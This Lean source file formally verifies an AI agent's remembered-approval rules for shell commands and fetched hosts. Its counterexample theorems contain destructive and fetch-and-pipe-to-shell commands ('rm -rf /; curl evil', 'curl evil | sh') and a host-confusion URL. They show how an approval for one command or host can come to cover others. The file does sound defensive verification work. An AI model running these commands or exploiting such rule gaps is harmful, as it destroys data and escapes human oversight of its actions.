/-
UAgent/App/Permissions.lean

Remembered approvals (src/app/permissions.cc): what a rule is matched
against, the rule a person is offered for a call, and whether a rule covers
a call.

A rule is one string.  Its last characters select how `ruleCovers` reads it:
"*" is every call, "PREFIX *" one simple command starting with PREFIX,
"DIR/" a path under DIR, and anything else the subject itself.
`suggestRule` stores the text of an exact command in that same string, so
what it meant and what `ruleCovers` reads are two things.

Main results: the exact commands whose rule is read back as meant
(`runRule_holds_iff`), and the URLs and remembered hosts whose rule is for the
host the URL reaches (`fetchRule_holds_iff`).

`CanonicalAccessPath`, which follows links on the disk, and the writer of
doubles are parameters.
-/
import UAgent.Core.Json
import UAgent.Core.Paths
import UAgent.Core.Strings

namespace UAgent

open Bytes

/-! ### Rules -/

/-- A remembered approval: the calls of `tool` whose subject `match` covers. -/
structure PermissionRule where
  tool : Bytes
  «match» : Bytes
deriving DecidableEq

/-- The parts of a `Tool` a rule depends on. -/
structure RuleTool where
  name : Bytes
  provider : Bytes
  approvalSubject : Option (Json → Json)

/-- Where a rule's text is cut. -/
def kMatchBytes : Nat := 4096

/-- What a command prefix may not hold: whatever chains, substitutes or
redirects. -/
def specialChars : Bytes := lit ";&|`$<>()\n\\"

/-- `SimpleCommand`. -/
def simpleCommand (command : Bytes) : Bool :=
  command ≠ [] && command.all fun c => !specialChars.contains c

/-- `Words`. -/
def words (text : Bytes) : List Bytes := wordsFrom [] text

/-- A character of a plain word. -/
def plainChar (c : UInt8) : Bool :=
  isAlnum c || c = ch '_' || c = ch '-' || c = ch '.' || c = ch ':' || c = ch '@' || c = ch '+'

/-- `PlainWord`: a program or subcommand, not a flag, path or assignment. -/
def plainWord (word : Bytes) : Bool :=
  word ≠ [] && word.head? ≠ some (ch '-') && word.all plainChar

/-- The program prefix offered for a command's words, when there is one: the
program and its subcommand.  A plain word after flags is a subcommand left
exact. -/
def programPrefix : List Bytes → Option Bytes
  | [] => none
  | program :: rest =>
    if plainWord program then
      match rest with
      | [] => some program
      | sub :: more =>
        if plainWord sub then some (program ++ ch ' ' :: sub)
        else if more = [] then some program
        else none
    else none

/-- The program a `run` rule is offered for: only a confined, simple command
has one. -/
def programRule (subject : Bytes) (confined : Bool) : Option Bytes :=
  if confined && simpleCommand subject then programPrefix (words subject) else none

/-- How `RuleCovers` reads a rule's text against a call's subject. -/
def matchCovers (text : Bytes) (confined : Bool) (subject : Bytes) : Bool :=
  if text = lit "*" then true
  else if lit " *" <:+ text then
    let command := text.take (text.length - 2)
    confined && simpleCommand subject &&
      (subject = command || (command ++ lit " ").isPrefixOf subject)
  else if lit "/" <:+ text then text.isPrefixOf subject
  else subject = text

section Rules

variable [DoubleText] (canonicalAccessPath : Bytes → Bytes)

/-- `RuleSubject`. -/
def ruleSubject (tool : RuleTool) (arguments : Json) (root : Bytes) : Bytes :=
  if tool.name = lit "run" then trim (jsonValueStr arguments (lit "command") [])
  else if tool.name = lit "web_fetch" then urlHost (jsonValueStr arguments (lit "url") [])
  else
    match tool.approvalSubject with
    | some subject => (subject arguments).dump
    | none =>
      match jsonStringRef arguments (lit "path") with
      | some path =>
        let canonical := canonicalAccessPath path
        if pathWithin canonical root then
          lit "./" ++ (Path.parse canonical).lexicallyRelative (Path.parse root)
        else canonical
      | none => arguments.dump

/-- `SuggestRule`: the broadest rule a person is offered for a call. -/
def suggestRule (tool : RuleTool) (arguments : Json) (root : Bytes) (confined : Bool) :
    PermissionRule :=
  let subject := ruleSubject canonicalAccessPath tool arguments root
  let exact := utf8Prefix subject kMatchBytes
  if lit "mcp:" <+: tool.provider then ⟨tool.name, lit "*"⟩
  else if tool.name = lit "run" then
    match programRule subject confined with
    | some program => ⟨tool.name, program ++ lit " *"⟩
    | none => ⟨tool.name, exact⟩
  else if tool.approvalSubject.isNone && (jsonStringRef arguments (lit "path")).isSome then
    -- The file's folder: up to and with the last '/'.
    if ch '/' ∈ subject then
      ⟨tool.name, subject.take (subject.length - (afterLast (ch '/') subject).length)⟩
    else ⟨tool.name, exact⟩
  else ⟨tool.name, exact⟩

/-- `RuleCovers`. -/
def ruleCovers (rule : PermissionRule) (tool : RuleTool) (arguments : Json) (root : Bytes)
    (confined : Bool) : Bool :=
  rule.tool = tool.name &&
    matchCovers rule.match confined (ruleSubject canonicalAccessPath tool arguments root)

end Rules

/-! ### How a rule's text is read -/

theorem simpleCommand_iff {s : Bytes} :
    simpleCommand s = true ↔ s ≠ [] ∧ ∀ c ∈ s, c ∉ specialChars := by
  simp [simpleCommand]

theorem matchCovers_star (confined : Bool) (subject : Bytes) :
    matchCovers (lit "*") confined subject = true := by
  simp [matchCovers]

/-- A text ending " *" is a program prefix. -/
theorem matchCovers_program (program : Bytes) (confined : Bool) (subject : Bytes) :
    matchCovers (program ++ lit " *") confined subject = true ↔
      confined = true ∧ simpleCommand subject = true ∧
        (subject = program ∨ program ++ lit " " <+: subject) := by
  have hne : program ++ lit " *" ≠ lit "*" := fun h => by
    have := congrArg List.length h
    simp [show (lit " *").length = 2 by decide, show (lit "*").length = 1 by decide] at this
  have htake : (program ++ lit " *").take ((program ++ lit " *").length - 2) = program := by
    simp [show (lit " *").length = 2 by decide]
  rw [matchCovers, if_neg hne, if_pos (List.suffix_append _ _), htake]
  simp [and_assoc]

/-- A text ending in '/' is a folder. -/
theorem matchCovers_folder {text : Bytes} (h : lit "/" <:+ text) (confined : Bool)
    (subject : Bytes) : matchCovers text confined subject = true ↔ text <+: subject := by
  obtain ⟨u, rfl⟩ := h
  have hlast : (u ++ lit "/").getLast? = some (ch '/') := by
    simp [show lit "/" = [ch '/'] by decide]
  have hstar : u ++ lit "/" ≠ lit "*" := fun h => by
    rw [h] at hlast
    exact absurd hlast (by decide)
  have hblank : ¬ lit " *" <:+ u ++ lit "/" := fun ⟨v, hv⟩ => by
    rw [← hv] at hlast
    simp [show lit " *" = [ch ' ', ch '*'] by decide] at hlast
    exact absurd hlast (by decide)
  rw [matchCovers, if_neg hstar, if_neg hblank, if_pos (List.suffix_append _ _)]
  simp

/-- Any other text is the subject itself. -/
theorem matchCovers_exact {text : Bytes} (hs : text ≠ lit "*") (hb : ¬ lit " *" <:+ text)
    (hd : ¬ lit "/" <:+ text) (confined : Bool) (subject : Bytes) :
    matchCovers text confined subject = true ↔ subject = text := by
  rw [matchCovers, if_neg hs, if_neg hb, if_neg hd]
  simp


/-! ### Rules for commands

A command is matched by its trimmed text.  The text kept for an exact command
is a beginning `m` of that trimmed text `trim c`; the lemmas here find, for
each other way `matchCovers` can read `m`, a second command it covers. -/

section Exact

variable {c m : Bytes}

/-- Any beginning of a trimmed command can be continued to a trimmed text. -/
theorem trim_prefix_append (hm : m <+: trim c) (hne : m ≠ []) (t : Bytes) {a : UInt8}
    (ha : trimmed a = false) : trim (m ++ t ++ [a]) = m ++ t ++ [a] :=
  trimBy_prefix_append hm hne ha

/-- The folder `m` holds a command other than `trim c`. -/
theorem exists_covered_folder (hm : m <+: trim c) (hd : lit "/" <:+ m) (flag : Bool) :
    ∃ o, trim o = o ∧ o ≠ trim c ∧ matchCovers m flag o = true := by
  have hne : m ≠ [] := by
    rintro rfl
    exact absurd (List.suffix_nil.mp hd) (by decide)
  -- One of "x" and "y" is not how the command goes on.
  by_cases hx : m ++ [] ++ [ch 'x'] = trim c
  · refine ⟨m ++ [] ++ [ch 'y'], trim_prefix_append hm hne [] (by decide), fun h => ?_, ?_⟩
    · have := List.append_cancel_left (hx.trans h.symm)
      exact absurd this (by decide)
    · exact (matchCovers_folder hd flag _).mpr ⟨[ch 'y'], by simp⟩
  · exact ⟨m ++ [] ++ [ch 'x'], trim_prefix_append hm hne [] (by decide), hx,
      (matchCovers_folder hd flag _).mpr ⟨[ch 'x'], by simp⟩⟩

/-- A simple command ending " *" is read as a program, which takes other
arguments too. -/
theorem exists_covered_program {program : Bytes} (hm : program ++ lit " *" <+: trim c)
    (hs : simpleCommand (program ++ lit " *") = true) :
    ∃ o, trim o = o ∧ o ≠ trim c ∧ matchCovers (program ++ lit " *") true o = true := by
  have hp : program <+: trim c := (List.prefix_append _ _).trans hm
  have hne : program ≠ [] := by
    rintro rfl
    obtain ⟨u, hu⟩ := hm
    have hblank := head_trimBy (p := trimmed) (a := ch ' ') (t := ch '*' :: u) hu.symm
    exact absurd hblank (by decide)
  have hsimple : simpleCommand (program ++ lit " " ++ [ch 'x']) = true := by
    refine simpleCommand_iff.mpr ⟨by simp, fun d hd => ?_⟩
    simp only [List.mem_append, List.mem_singleton] at hd
    rcases hd with (hd | hd) | rfl
    · exact (simpleCommand_iff.mp hs).2 d (List.mem_append_left _ hd)
    · obtain rfl : d = ch ' ' := by simpa [show lit " " = [ch ' '] by decide] using hd
      decide
    · decide
  refine ⟨program ++ lit " " ++ [ch 'x'], trim_prefix_append hp hne _ (by decide), fun h => ?_,
    (matchCovers_program _ _ _).mpr ⟨rfl, hsimple, .inr ⟨[ch 'x'], rfl⟩⟩⟩
  obtain ⟨u, hu⟩ := hm
  rw [← h, show lit " *" = lit " " ++ [ch '*'] by decide, ← List.append_assoc,
    List.append_assoc _ [ch '*']] at hu
  exact absurd (List.cons.inj (List.append_cancel_left hu)).1 (by decide)

/-- A program text that holds a special character covers nothing. -/
theorem not_covers_of_special {program : Bytes} (hs : simpleCommand (program ++ lit " *") = false)
    (flag : Bool) (o : Bytes) : matchCovers (program ++ lit " *") flag o = false := by
  rw [Bool.eq_false_iff]
  intro h
  obtain ⟨-, hsimple, hpre⟩ := (matchCovers_program _ _ _).mp h
  have hpo : program <+: o := by
    rcases hpre with rfl | hpre
    · exact List.prefix_refl _
    · exact (List.prefix_append _ _).trans hpre
  rw [Bool.eq_false_iff] at hs
  refine hs (simpleCommand_iff.mpr ⟨fun h => ?_, fun d hd => ?_⟩)
  · exact absurd (List.append_eq_nil_iff.mp h).2 (by decide)
  rcases List.mem_append.mp hd with hd | hd
  · exact (simpleCommand_iff.mp hsimple).2 d (hpo.subset hd)
  · rw [show lit " *" = [ch ' ', ch '*'] by decide] at hd
    rcases List.mem_pair.mp hd with rfl | rfl <;> decide

end Exact

/-- The text kept for an exact subject is read back as that subject: it is
none of the forms `matchCovers` gives a wider meaning, and the byte limit
either kept all of it or left a text no trimmed command can equal. -/
def ReadsBack (subject : Bytes) : Prop :=
  let text := utf8Prefix subject kMatchBytes
  text ≠ lit "*" ∧ ¬ lit "/" <:+ text ∧
    (lit " *" <:+ text → simpleCommand text = false) ∧
    (¬ lit " *" <:+ text → text = subject ∨ trim text ≠ text)

/-- The text kept for an exact command covers no other command exactly when it
is read back. -/
theorem covers_only_iff_readsBack (c : Bytes) :
    (∀ o flag, trim o = o → matchCovers (utf8Prefix (trim c) kMatchBytes) flag o = true →
      o = trim c) ↔ ReadsBack (trim c) := by
  unfold ReadsBack
  have hm := utf8Prefix_isPrefix (trim c) kMatchBytes
  generalize utf8Prefix (trim c) kMatchBytes = m at hm
  constructor
  · intro honly
    have hstar : m ≠ lit "*" := by
      rintro rfl
      have hnil := honly [] true rfl (matchCovers_star _ _)
      rw [← hnil, List.prefix_nil] at hm
      exact absurd hm (by decide)
    have hfolder : ¬ lit "/" <:+ m := fun hd => by
      obtain ⟨o, ho, hne, hcov⟩ := exists_covered_folder hm hd true
      exact hne (honly o true ho hcov)
    refine ⟨hstar, hfolder, ?_, fun hb => ?_⟩
    · rintro ⟨program, rfl⟩
      rw [Bool.eq_false_iff]
      intro hs
      obtain ⟨o, ho, hne, hcov⟩ := exists_covered_program hm hs
      exact hne (honly o true ho hcov)
    · by_cases ht : trim m = m
      · exact .inl (honly m true ht ((matchCovers_exact hstar hb hfolder _ _).mpr rfl))
      · exact .inr ht
  · rintro ⟨hstar, hfolder, hprogram, hexact⟩ o flag ho hcov
    by_cases hb : lit " *" <:+ m
    · have hs := hprogram hb
      obtain ⟨program, rfl⟩ := hb
      rw [not_covers_of_special hs] at hcov
      exact absurd hcov Bool.false_ne_true
    · obtain rfl := (matchCovers_exact hstar hb hfolder _ _).mp hcov
      rcases hexact hb with h | h
      · exact h
      · exact absurd ho h

/-- The command of a `run` call. -/
def runCommand (arguments : Json) : Bytes := jsonValueStr arguments (lit "command") []

/-- The `run` call of a command. -/
def runCall (command : Bytes) : Json := .obj [(lit "command", .str command)]

@[simp] theorem runCommand_runCall (command : Bytes) : runCommand (runCall command) = command :=
  rfl

/-- The built-in `run` tool: no provider, and no approval subject of its own. -/
def runTool : RuleTool := ⟨lit "run", [], none⟩

section RunRules

variable [DoubleText] (canonicalAccessPath : Bytes → Bytes)

theorem ruleSubject_run (arguments : Json) (root : Bytes) :
    ruleSubject canonicalAccessPath runTool arguments root = trim (runCommand arguments) := by
  rw [ruleSubject, if_pos (show runTool.name = lit "run" from rfl)]
  rfl

/-- The rule offered for a command: its program, or the text itself. -/
theorem suggestRule_run (arguments : Json) (root : Bytes) (confined : Bool) :
    suggestRule canonicalAccessPath runTool arguments root confined =
      ⟨lit "run", match programRule (trim (runCommand arguments)) confined with
        | some program => program ++ lit " *"
        | none => utf8Prefix (trim (runCommand arguments)) kMatchBytes⟩ := by
  rw [suggestRule, if_neg (by decide : ¬ lit "mcp:" <+: runTool.provider),
    if_pos (show runTool.name = lit "run" from rfl), ruleSubject_run]
  rcases programRule (trim (runCommand arguments)) confined with - | program <;> rfl

theorem ruleCovers_run (text : Bytes) (arguments : Json) (root : Bytes) (flag : Bool) :
    ruleCovers canonicalAccessPath ⟨lit "run", text⟩ runTool arguments root flag =
      matchCovers text flag (trim (runCommand arguments)) := by
  rw [ruleCovers, ruleSubject_run, decide_eq_true (show lit "run" = runTool.name from rfl),
    Bool.true_and]

/-- What a remembered `run` rule promises.  When no program was offered the
rule is for the command alone, and whatever the rule, a covered command with
a special character is that command.  Commands are compared as trimmed. -/
structure RunRuleHolds (arguments : Json) (root : Bytes) (confined : Bool) : Prop where
  exact : programRule (trim (runCommand arguments)) confined = none → ∀ other flag,
    ruleCovers canonicalAccessPath
      (suggestRule canonicalAccessPath runTool arguments root confined) runTool other root flag =
        true →
    trim (runCommand other) = trim (runCommand arguments)
  special : ∀ other flag,
    ruleCovers canonicalAccessPath
      (suggestRule canonicalAccessPath runTool arguments root confined) runTool other root flag =
        true →
    (∃ d ∈ trim (runCommand other), d ∈ specialChars) →
    trim (runCommand other) = trim (runCommand arguments)

/-- **A `run` rule covers what it was offered for** exactly when it is a
program's, or the text kept for the command is read back as the command. -/
theorem runRule_holds_iff (arguments : Json) (root : Bytes) (confined : Bool) :
    RunRuleHolds canonicalAccessPath arguments root confined ↔
      (programRule (trim (runCommand arguments)) confined).isSome = true ∨
        ReadsBack (trim (runCommand arguments)) := by
  have hsuggest := suggestRule_run canonicalAccessPath arguments root confined
  rcases hp : programRule (trim (runCommand arguments)) confined with - | program
  · rw [hp] at hsuggest
    simp only [Option.isSome_none, Bool.false_eq_true, false_or]
    rw [← covers_only_iff_readsBack]
    constructor
    · intro holds o flag ho hcov
      have := holds.exact hp (runCall o) flag
        (by rw [hsuggest, ruleCovers_run, runCommand_runCall, ho]; exact hcov)
      rwa [runCommand_runCall, ho] at this
    · intro honly
      have hall : ∀ other flag, ruleCovers canonicalAccessPath
          (suggestRule canonicalAccessPath runTool arguments root confined) runTool other root
            flag = true → trim (runCommand other) = trim (runCommand arguments) := by
        intro other flag hcov
        rw [hsuggest, ruleCovers_run] at hcov
        exact honly _ flag (trimBy_trimBy _) hcov
      exact ⟨fun _ => hall, fun other flag hcov _ => hall other flag hcov⟩
  · rw [hp] at hsuggest
    refine iff_of_true ⟨fun hnone => ?_, ?_⟩ (.inl rfl)
    · rw [hp] at hnone
      exact absurd hnone (by simp)
    · rintro other flag hcov ⟨d, hd, hspecial⟩
      rw [hsuggest, ruleCovers_run] at hcov
      obtain ⟨-, hsimple, -⟩ := (matchCovers_program _ _ _).mp hcov
      exact absurd hspecial ((simpleCommand_iff.mp hsimple).2 d hd)

end RunRules

/-- Exact commands of each kind that is read back as something wider: one
ending in '/', the command "*", and one ending " *". -/
theorem runRule_read_wider :
    ¬ @RunRuleHolds Json.bitsText id (runCall (lit "rm -rf /")) (lit "/home/u") true ∧
      ¬ @RunRuleHolds Json.bitsText id (runCall (lit "*")) (lit "/home/u") true ∧
      ¬ @RunRuleHolds Json.bitsText id (runCall (lit "tar -x f *")) (lit "/home/u") true := by
  let _ := Json.bitsText
  refine ⟨fun h => ?_, fun h => ?_, fun h => ?_⟩
  · have := h.special (runCall (lit "rm -rf /; curl evil")) true (by decide)
      ⟨ch ';', by decide, by decide⟩
    exact absurd this (by decide)
  · exact absurd (h.exact (by decide) (runCall (lit "curl evil | sh")) true (by decide)) (by decide)
  · exact absurd (h.exact (by decide) (runCall (lit "tar -x f x")) true (by decide)) (by decide)

/-! ### Rules for hosts -/

/-- The URL of a `web_fetch` call. -/
def fetchUrl (arguments : Json) : Bytes := jsonValueStr arguments (lit "url") []

/-- The `web_fetch` call of a URL. -/
def fetchCall (url : Bytes) : Json := .obj [(lit "url", .str url)]

/-- The built-in `web_fetch` tool. -/
def webFetchTool : RuleTool := ⟨lit "web_fetch", [], none⟩

/-- What a rule keeps of a saved host does not cover calls to another: it is
not "*", and neither the other host nor, ending " *", a beginning of it. -/
def NamesOnly (saved host : Bytes) : Prop :=
  saved = host ∨ utf8Prefix saved kMatchBytes ≠ lit "*" ∧
    (¬ lit " *" <:+ utf8Prefix saved kMatchBytes → host ≠ utf8Prefix saved kMatchBytes) ∧
    ∀ program ∈ (utf8Prefix saved kMatchBytes).inits,
      program ++ lit " *" = utf8Prefix saved kMatchBytes → simpleCommand host = true →
        host ≠ program ∧ ¬ program ++ lit " " <+: host

instance (saved host : Bytes) : Decidable (NamesOnly saved host) :=
  inferInstanceAs (Decidable (_ ∨ _))

/-- A host's text is read as covering no other host. -/
theorem namesOnly_iff {saved : Bytes} (hslash : ch '/' ∉ saved) (host : Bytes) :
    NamesOnly saved host ↔
      ∀ flag, matchCovers (utf8Prefix saved kMatchBytes) flag host = true → saved = host := by
  have hfolder : ¬ lit "/" <:+ utf8Prefix saved kMatchBytes := fun hd =>
    hslash ((utf8Prefix_isPrefix saved kMatchBytes).subset (hd.subset (by decide)))
  unfold NamesOnly
  generalize utf8Prefix saved kMatchBytes = text at hfolder
  constructor
  · rintro (hsame | ⟨hstar, hexact, hprogram⟩) flag hcov
    · exact hsame
    by_cases hb : lit " *" <:+ text
    · obtain ⟨program, rfl⟩ := hb
      obtain ⟨-, hsimple, hreads⟩ := (matchCovers_program _ _ _).mp hcov
      obtain ⟨hne, hnot⟩ := hprogram program ((List.mem_inits _ _).mpr (List.prefix_append _ _)) rfl
        hsimple
      exact (hreads.elim hne hnot).elim
    · exact absurd ((matchCovers_exact hstar hb hfolder _ _).mp hcov) (hexact hb)
  · intro honly
    refine or_iff_not_imp_left.mpr fun hne => ⟨?_, fun hb heq => ?_, ?_⟩
    · rintro rfl
      exact hne (honly true (matchCovers_star _ _))
    · by_cases hstar : text = lit "*"
      · exact hne (honly true (hstar ▸ matchCovers_star _ _))
      · exact hne (honly true ((matchCovers_exact hstar hb hfolder _ _).mpr heq))
    · rintro program - rfl hsimple
      exact not_or.mp fun hreads =>
        hne (honly true ((matchCovers_program _ _ _).mpr ⟨rfl, hsimple, hreads⟩))

section FetchRules

variable [DoubleText] (canonicalAccessPath : Bytes → Bytes)

theorem ruleSubject_webFetch (arguments : Json) (root : Bytes) :
    ruleSubject canonicalAccessPath webFetchTool arguments root = urlHost (fetchUrl arguments) := by
  rw [ruleSubject, if_neg (by decide), if_pos (show webFetchTool.name = lit "web_fetch" from rfl)]
  rfl

/-- A host is always kept exactly: it holds no '/' to cut a folder at. -/
theorem suggestRule_webFetch (arguments : Json) (root : Bytes) (confined : Bool) :
    suggestRule canonicalAccessPath webFetchTool arguments root confined =
      ⟨lit "web_fetch", utf8Prefix (urlHost (fetchUrl arguments)) kMatchBytes⟩ := by
  rw [suggestRule, if_neg (by decide : ¬ lit "mcp:" <+: webFetchTool.provider),
    if_neg (by decide : ¬ webFetchTool.name = lit "run"), ruleSubject_webFetch,
    if_neg (slash_not_mem_urlHost _), ite_self]
  rfl

/-- A rule saved for a host covers the calls whose key its text is read as. -/
theorem ruleCovers_webFetch (saved arguments : Json) (root : Bytes) (confined flag : Bool) :
    ruleCovers canonicalAccessPath
      (suggestRule canonicalAccessPath webFetchTool saved root confined) webFetchTool arguments root
        flag =
      matchCovers (utf8Prefix (urlHost (fetchUrl saved)) kMatchBytes) flag
        (urlHost (fetchUrl arguments)) := by
  rw [suggestRule_webFetch, ruleCovers, ruleSubject_webFetch,
    decide_eq_true (show lit "web_fetch" = webFetchTool.name from rfl), Bool.true_and]

/-- What remembering the host of `saved` promises of the http URL `url`,
`rest` being what follows its "://": the URL is keyed by its RFC 3986 host,
and the rule covers it only when that is the host it was saved for. -/
structure FetchRuleHolds (saved : Json) (url rest : Bytes) : Prop where
  key : urlHost url = asciiLower (Rfc3986.host rest)
  rule : ∀ arguments root confined flag, fetchUrl arguments = url →
    ruleCovers canonicalAccessPath
      (suggestRule canonicalAccessPath webFetchTool saved root confined) webFetchTool arguments
        root flag = true →
    urlHost (fetchUrl saved) = asciiLower (Rfc3986.host rest)

/-- **A remembered host covers that host's URLs** exactly where the query or
fragment, taken along up to the first '/', leaves the host standing, and the
text kept of the remembered host is not read as a wider rule. -/
theorem fetchRule_holds_iff (saved : Json) {url rest : Bytes} (h : HttpUrl url rest) :
    FetchRuleHolds canonicalAccessPath saved url rest ↔
      KeyedByHost rest ∧
        NamesOnly (urlHost (fetchUrl saved)) (asciiLower (Rfc3986.host rest)) := by
  rw [← urlHost_eq_host_iff h, namesOnly_iff (slash_not_mem_urlHost _)]
  constructor
  · rintro ⟨hkey, hrule⟩
    refine ⟨hkey, fun flag hcov => hrule (fetchCall url) [] true flag rfl ?_⟩
    rw [ruleCovers_webFetch, show fetchUrl (fetchCall url) = url from rfl, hkey]
    exact hcov
  · rintro ⟨hkey, honly⟩
    refine ⟨hkey, fun arguments root confined flag hurl hcov => honly flag ?_⟩
    rwa [ruleCovers_webFetch, hurl, hkey] at hcov

end FetchRules

/-- A plain URL with a port, whose key is its host, and a rule for another
host. -/
theorem fetchRule_plain :
    @FetchRuleHolds Json.bitsText id (fetchCall (lit "http://example.com/"))
      (lit "https://Docs.example.com:8443/a?b@c") (lit "Docs.example.com:8443/a?b@c") :=
  let _ := Json.bitsText
  (fetchRule_holds_iff id _ ⟨lit "https", by decide, .inr (by decide)⟩).mpr
    ⟨by decide, by decide⟩

/-- A rule for good.com covers a URL of evil.com, and so does one for the host
"*". -/
theorem fetchRule_wrong_host :
    ¬ @FetchRuleHolds Json.bitsText id (fetchCall (lit "http://good.com/"))
        (lit "http://evil.com?@good.com/") (lit "evil.com?@good.com/") ∧
      ¬ @FetchRuleHolds Json.bitsText id (fetchCall (lit "http://*/"))
        (lit "http://evil.com/") (lit "evil.com/") := by
  let _ := Json.bitsText
  constructor
  · intro h
    exact absurd (h.rule (fetchCall (lit "http://evil.com?@good.com/")) [] true true (by decide)
      (by decide)) (by decide)
  · intro h
    exact absurd (h.rule (fetchCall (lit "http://evil.com/")) [] true true (by decide)
      (by decide)) (by decide)

end UAgent
